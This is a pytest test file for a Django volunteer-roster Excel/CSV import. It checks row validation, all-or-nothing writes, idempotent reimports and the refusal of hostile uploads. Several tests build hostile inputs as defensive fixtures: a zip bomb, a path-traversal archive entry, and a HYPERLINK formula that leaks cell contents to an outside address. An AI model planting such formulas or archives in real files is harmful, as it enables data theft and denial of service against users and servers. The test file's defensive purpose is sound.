"""Excel/CSV import: template, preview with every row error, all-or-nothing, idempotent, hostile files."""

import io
import zipfile
from datetime import date, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from stations import idnumbers
from stations.models import AuditEntry, PeriodLock, StationStatus
from stations.tests.factories import WorkstationFactory
from volunteers.importing import COLUMNS, ImportRefused, parse_date, read_table, validate_rows
from volunteers.models import Volunteer
from volunteers.tests.factories import VolunteerFactory

HEADERS = [c.header for c in COLUMNS]


def person_id(n, male=True, born=date(1956, 5, 20)):
    return idnumbers.make("230102", born, n * 2 + (1 if male else 0))


def row(station, n, **overrides):
    values = {
        "工作站编号": station.code,
        "姓名": f"导入{n}号",
        "性别": "男",
        "身份证号": person_id(n),
        "出生日期": "",
        "手机号码": f"1390451{n:04d}",
        "五老类别": "老战士",
        "人员类型": "退休民警",
        "原工作单位": "市公安局",
        "原职务/警衔": "一级警长",
        "政治面貌": "中共党员",
        "健康状况": "良好",
        "特长": "调解",
        "站内职务": "成员",
        "站内角色": "法治宣讲员、矛盾调解员",
        "入列日期": "2024-01-16",
    }
    values.update(overrides)
    return [values[h] for h in HEADERS]


def xlsx(rows, headers=HEADERS, *, extra_blank=0) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "志愿者"
    sheet.append(headers)
    for values in rows:
        sheet.append(values)
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text as typed, never a formula
    if extra_blank:
        sheet.cell(row=len(rows) + 1 + extra_blank, column=1, value=None)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(client, data, name="志愿者.xlsx"):
    return client.post(reverse("volunteers:import"), {"file": SimpleUploadedFile(name, data)})


def confirm(client, response):
    token = response.context["token"]
    return client.post(reverse("volunteers:import-confirm"), {"token": token})


@pytest.fixture
def staff(world, client_as):
    return client_as(world.user("staff"))


def test_template_has_chinese_headers_instructions_and_drop_downs(world, staff):
    response = staff.get(reverse("volunteers:import-template"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["填写说明", "志愿者", "代码表"]
    headers = [c.value for c in workbook["志愿者"][1]]
    assert headers[0] == "工作站编号*" and "身份证号*" in headers and "站内角色" in headers
    validations = workbook["志愿者"].data_validations.dataValidation
    ranges = {str(v.sqref).split(":")[0] for v in validations}
    assert {"A2", "C2", "G2", "H2", "N2"} <= ranges  # station, gender, category, member type, position
    codes = [c.value for c in workbook["代码表"]["A"] if c.value][1:]
    assert codes == [world.a.station.code]
    assert "身份证号须通过校验位检查" in "".join(str(c.value) for c in workbook["填写说明"]["A"])


def test_good_file_previews_then_imports_in_one_go_and_reimport_changes_nothing(world, staff):
    data = xlsx([row(world.a.station, n) for n in range(1, 41)])
    response = upload(staff, data)
    assert "检查通过：新增 40 人，更新 0 人，未变化 0 人" in response.content.decode()
    assert "此前已导入过" not in response.content.decode()
    assert Volunteer.objects.count() == 0  # preview writes nothing
    response = confirm(staff, response)
    assert response.status_code == 302
    assert Volunteer.objects.filter(workstation=world.a.station).count() == 40
    first = Volunteer.objects.get(name="导入1号")
    assert first.birth_date == date(1956, 5, 20) and first.gender == "male"
    assert sorted(first.roles.values_list("role", flat=True)) == ["legal_lecturer", "mediator"]
    assert AuditEntry.objects.filter(action="volunteer.import").count() == 1
    snapshot = list(Volunteer.objects.order_by("pk").values("pk", "version", "updated_at"))
    again = upload(staff, data)
    assert "检查通过：新增 0 人，更新 0 人，未变化 40 人" in again.content.decode()
    assert "内容完全相同的文件此前已导入过" in again.content.decode()
    confirm(staff, again)
    assert list(Volunteer.objects.order_by("pk").values("pk", "version", "updated_at")) == snapshot


def test_reimport_with_a_changed_row_updates_that_person_only(world, staff):
    confirm(staff, upload(staff, xlsx([row(world.a.station, 1), row(world.a.station, 2)])))
    changed = xlsx([row(world.a.station, 1, 姓名="导入1号改", 站内角色="治安监督员"), row(world.a.station, 2)])
    response = upload(staff, changed)
    assert "新增 0 人，更新 1 人，未变化 1 人" in response.content.decode()
    confirm(staff, response)
    person = Volunteer.objects.get(id_hash=idnumbers.lookup_hash(person_id(1)))
    assert person.name == "导入1号改" and person.version == 2
    assert list(person.roles.values_list("role", flat=True)) == ["order_monitor"]
    assert Volunteer.objects.count() == 2


def test_every_kind_of_bad_row_is_reported_and_nothing_is_written(world, staff):
    other = VolunteerFactory(
        workstation=world.b.station, id_number=person_id(9), id_hash=idnumbers.lookup_hash(person_id(9))
    )
    other_before = (other.name, other.mobile, other.version)
    bad_checksum = person_id(3)[:-1] + ("0" if person_id(3)[-1] != "0" else "1")
    rows = [
        row(world.a.station, 1),  # row 2: fine
        row(world.a.station, 2),  # row 3: fine
        row(world.a.station, 3, 身份证号=bad_checksum),  # row 4: checksum
        row(world.a.station, 4, 工作站编号="NOPE01"),  # row 5: unknown station
        row(world.a.station, 5, 工作站编号=world.b.station.code),  # row 6: out of scope
        row(world.a.station, 6, 身份证号=person_id(1)),  # row 7: duplicate of row 2
        row(world.a.station, 9),  # row 8: current in another station
        row(world.a.station, 7, 入列日期="2024-02-30"),  # row 9: bad date
        row(world.a.station, 8, 姓名=""),  # row 10: missing required
        row(world.a.station, 10, 人员类型="警察"),  # row 11: not a choice
        row(world.a.station, 11, 手机号码="23812345678"),  # row 12: bad mobile
        row(world.a.station, 12, 出生日期="1956-05-21"),  # row 13: birth date disagrees with the ID
    ]
    response = upload(staff, xlsx(rows))
    body = response.content.decode()
    errors = {(e.row, e.column): e.message for e in response.context["plan"].errors}
    assert "校验位错误" in errors[(4, "身份证号")]
    assert errors[(5, "工作站编号")] == "工作站编号不存在"
    assert errors[(6, "工作站编号")] == "该工作站不在您的管辖范围内"
    assert errors[(7, "身份证号")] == "与第 2 行身份证号重复"
    assert "已在其他工作站在册" in errors[(8, "身份证号")]
    assert "日期格式不正确" in errors[(9, "入列日期")]
    assert errors[(10, "姓名")] == "必填项未填写"
    assert "不是可选的值" in errors[(11, "人员类型")]
    assert "手机号码应为 11 位数字" in errors[(12, "手机号码")]
    assert "出生日期不一致" in errors[(13, "身份证号")]
    assert "整个文件未导入" in body and "NOPE01" in body
    assert "token" not in response.context
    assert Volunteer.objects.filter(workstation=world.a.station).count() == 0
    other.refresh_from_db()
    assert (other.name, other.mobile, other.version) == other_before  # AC-6: never an update


def test_confirm_without_a_valid_preview_writes_nothing(world, staff):
    response = upload(staff, xlsx([row(world.a.station, 1, 姓名="")]))
    assert response.context["plan"].errors
    response = staff.post(reverse("volunteers:import-confirm"), {"token": "forged"})
    assert response.status_code == 302
    assert not Volunteer.objects.exists()


def test_a_row_in_a_locked_year_is_an_error(world, staff):
    PeriodLock.objects.create(workstation=world.a.station, year=2024)
    response = upload(staff, xlsx([row(world.a.station, 1)]))
    assert "锁定" in response.context["plan"].errors[0].message


def test_a_person_who_left_this_station_is_not_silently_re_enrolled(world, staff):
    VolunteerFactory(
        workstation=world.a.station, id_number=person_id(1), id_hash=idnumbers.lookup_hash(person_id(1)), status="left"
    )
    response = upload(staff, xlsx([row(world.a.station, 1)]))
    assert "已退出" in response.context["plan"].errors[0].message


def test_inactive_station_rows_are_refused(world, staff):
    world.a.station.status = StationStatus.CLOSED
    world.a.station.save()
    response = upload(staff, xlsx([row(world.a.station, 1)]))
    assert "不在运行状态" in response.context["plan"].errors[0].message


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-01-16", date(2024, 1, 16)),
        ("2024/1/16", date(2024, 1, 16)),
        ("2024年1月16日", date(2024, 1, 16)),
        ("２０２４年１月１６日", date(2024, 1, 16)),
        ("20240116", date(2024, 1, 16)),
        (45307, date(2024, 1, 16)),
        ("45307", date(2024, 1, 16)),
        (datetime(2024, 1, 16, 0, 0), date(2024, 1, 16)),
    ],
)
def test_dates_in_every_accepted_form(value, expected):
    assert parse_date(value) == expected


@pytest.mark.parametrize("value", ["2024-13-01", "2024/2/30", "去年", "1/16/2024", True, -5])
def test_bad_dates_are_refused(value):
    with pytest.raises((ValueError, TypeError)):
        parse_date(value)


def test_dates_as_excel_date_cells_and_serials_import(world, staff):
    rows = [row(world.a.station, 1, 入列日期=datetime(2024, 1, 16)), row(world.a.station, 2, 入列日期=45307)]
    response = upload(staff, xlsx(rows))
    assert response.context["plan"].is_valid
    confirm(staff, response)
    assert set(Volunteer.objects.values_list("joined_on", flat=True)) == {date(2024, 1, 16)}


def test_csv_in_gb18030_imports_and_escaped_formula_quotes_are_removed(world, staff):
    lines = [",".join(HEADERS)]
    values = row(world.a.station, 1, 姓名='\'=HYPERLINK(""x"")')
    values[1] = '"\'=HYPERLINK(""x"")"'
    lines.append(",".join(str(v) for v in values))
    data = "\n".join(lines).encode("gb18030")
    response = upload(staff, data, name="roster.csv")
    assert response.context["plan"].is_valid, response.context["plan"].errors
    confirm(staff, response)
    assert Volunteer.objects.get().name == '=HYPERLINK("x")'


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("roster.txt", b"hello", "仅支持 Excel（.xlsx）或 CSV（.csv）文件"),
        ("roster.xls", b"\xd0\xcf\x11\xe0", "仅支持 Excel（.xlsx）或 CSV（.csv）文件"),
        ("roster.xlsx", "姓名,身份证号\n".encode(), "文件内容不是 Excel"),
        ("roster.csv", b"PK\x03\x04zip", "文件内容不是 CSV"),
        ("roster.csv", b"a\x00b", "文件内容不是 CSV"),
        ("roster.csv", "姓名,手机\n张三,1\n".encode(), "表头缺少必填列"),
    ],
)
def test_refused_files_get_a_clear_message(world, staff, name, data, message):
    response = upload(staff, data, name=name)
    assert message in response.content.decode()
    assert "plan" not in response.context


def test_file_over_the_size_limit_is_refused(world, staff, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    response = upload(staff, b"x" * 2048, name="roster.csv")
    assert "文件过大" in response.content.decode()


def test_zip_bomb_is_refused_before_openpyxl(world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (60 * 1024 * 1024))
    with pytest.raises(ImportRefused, match="压缩炸弹"):
        read_table("bomb.xlsx", buffer.getvalue())


def test_zip_with_too_many_entries_or_bad_paths_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("../evil.xml", "x")
    with pytest.raises(ImportRefused, match="路径不合法"):
        read_table("evil.xlsx", buffer.getvalue())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(201):
            archive.writestr(f"x{n}.xml", "x")
    with pytest.raises(ImportRefused, match="条目过多"):
        read_table("many.xlsx", buffer.getvalue())


def test_more_than_the_row_limit_is_refused(world, settings):
    settings.VOLUNTEER_IMPORT_MAX_ROWS = 5
    rows = [row(world.a.station, n) for n in range(1, 7)]
    with pytest.raises(ImportRefused, match="超过 5 行"):
        validate_rows(user=world.user("staff"), name="big.xlsx", data=xlsx(rows))
    assert validate_rows(user=world.user("staff"), name="ok.xlsx", data=xlsx(rows[:5])).is_valid


def test_5001_rows_are_refused_by_the_default_limit(world):
    rows = [row(world.a.station, 1)] * 5001
    with pytest.raises(ImportRefused, match="超过 5000 行"):
        validate_rows(user=world.user("staff"), name="big.xlsx", data=xlsx(rows))


def test_trailing_empty_rows_do_not_count(world, settings):
    settings.VOLUNTEER_IMPORT_MAX_ROWS = 3
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    for n in range(1, 4):
        sheet.append(row(world.a.station, n))
    for n in range(5, 30_000):  # formatted but empty rows, as Excel leaves behind
        sheet.cell(row=n, column=1).number_format = "@"
    buffer = io.BytesIO()
    workbook.save(buffer)
    plan = validate_rows(user=world.user("staff"), name="trailing.xlsx", data=buffer.getvalue())
    assert plan.rows == 3 and plan.is_valid


def test_supervisors_may_not_import(world, client_as):
    response = upload(client_as(world.user("county")), xlsx([row(world.a.station, 1)]))
    assert response.status_code == 403
    assert not Volunteer.objects.exists()


def test_station_user_may_import_into_a_station_merged_into_theirs(world, staff):
    merged = WorkstationFactory(county=world.a.county, merged_into=world.a.station)
    response = upload(staff, xlsx([row(merged, 1)]))
    assert response.context["plan"].is_valid


def test_error_report_downloads_as_xlsx_with_formula_values_kept_as_text(world, staff):
    upload(staff, xlsx([row(world.a.station, 1, 工作站编号='=HYPERLINK("http://10.0.0.9/?"&A1,"x")')]))
    response = staff.get(reverse("volunteers:import-errors"))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["导入错误"]
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert values[0] == ["行", "列", "内容", "问题"]
    assert values[1] == [2, "工作站编号", '=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "工作站编号不存在"]
    assert all(c.data_type != "f" for ws in workbook.worksheets for r in ws.iter_rows() for c in r)


def test_rows_kept_between_preview_and_confirm_round_trip_as_json():
    from stations.imports.reader import Sheet

    parsed = Sheet(
        "abc", 3, ["姓名", "入列日期"], [(4, ("x", 45307, 1.5, None, datetime(2024, 1, 16, 8, 30), date(2024, 1, 16)))]
    )
    parsed.skipped_blank, parsed.skipped_total = 2, 1
    again = Sheet.from_json(parsed.to_json())
    assert again == parsed


def test_confirm_validates_again_against_the_database(world, staff):
    response = upload(staff, xlsx([row(world.a.station, 1)]))
    # Meanwhile another station registers the same person.
    VolunteerFactory(workstation=world.b.station, id_number=person_id(1), id_hash=idnumbers.lookup_hash(person_id(1)))
    response = confirm(staff, response)
    assert response.status_code == 200
    assert "已在其他工作站在册" in response.content.decode()
    assert Volunteer.objects.filter(workstation=world.a.station).count() == 0
